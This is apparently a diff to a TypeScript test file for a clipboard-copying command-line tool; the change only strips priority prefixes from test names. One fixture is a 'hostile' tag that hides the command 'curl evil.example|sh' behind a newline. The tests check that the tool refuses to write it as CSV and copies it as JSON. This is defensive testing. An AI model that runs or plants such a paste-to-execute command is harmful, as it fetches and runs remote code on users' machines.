@@ -13,7 +13,7 @@ const copied = tags.join();
 const sent = `sent to the terminal's clipboard: ${copied}`;
 
 describe('a tool that copies', () => {
-	itLong('P1: that hangs is killed after 2 s, and the terminal copies instead', () =>
+	itLong('that hangs is killed after 2 s, and the terminal copies instead', () =>
 		expectCopy({tools: {xclip: 'sleep 600 & echo $$ $! > "$HOME/pids"; wait'}}, async run => {
 			expect(run.stderr).toBe(`${sent}; xclip failed: timed out after 2 s\n`);
 			expect(run.arrived).toEqual([copied]);
@@ -24,7 +24,7 @@ describe('a tool that copies', () => {
 		}),
 	);
 
-	it('P1: that stays in the background to serve the clipboard is not awaited', () => {
+	it('that stays in the background to serve the clipboard is not awaited', () => {
 		const xclip = 'exec 3<&0; cat > "$HOME/copied"; sleep 600 <&3 & echo $! > "$HOME/pid"; exit 0';
 		return expectCopy({tools: {xclip}}, ({stderr, arrived, left}) => {
 			const pid = Number(left('pid'));
@@ -37,7 +37,7 @@ describe('a tool that copies', () => {
 });
 
 describe('a copy by the terminal', () => {
-	it('P3: is reported as sent and not confirmed, on and after the screen', () => {
+	it('is reported as sent and not confirmed, on and after the screen', () => {
 		const use = async (terminal: Terminal) => {
 			terminal.press('ctrl+y');
 			await terminal.waitForText(`✓ ${sent}`);
@@ -49,7 +49,7 @@ describe('a copy by the terminal', () => {
 		});
 	});
 
-	it('P7: is written whole and in no frame, while the screen is drawn', () => {
+	it('is written whole and in no frame, while the screen is drawn', () => {
 		const use = async (terminal: Terminal) => {
 			for (let copies = 1; copies <= 5; copies++) {
 				terminal.press('backspace', 'ctrl+y');
@@ -72,7 +72,7 @@ describe('a tag that acts when pasted', () => {
 	const hostile = 'os:x\ncurl evil.example|sh\n';
 	const shown = 'os:x^Jcurl evil.example|sh^J';
 
-	it('P5: is refused, and the reason is given', () => {
+	it('is refused, and the reason is given', () => {
 		const use = async (terminal: Terminal) => {
 			terminal.press('enter');
 			await terminal.waitForText(`\`${shown}\` cannot be written as csv (it contains a control character); use json`);
@@ -83,7 +83,7 @@ describe('a tag that acts when pasted', () => {
 		});
 	});
 
-	it('P5: is copied as JSON on one line, without a final line break', () =>
+	it('is copied as JSON on one line, without a final line break', () =>
 		expectCopy(
 			{tags: [hostile], arguments: ['--as', 'json'], tools: {xclip: 'cat > "$HOME/copied"'}},
 			({stderr, left}) => {
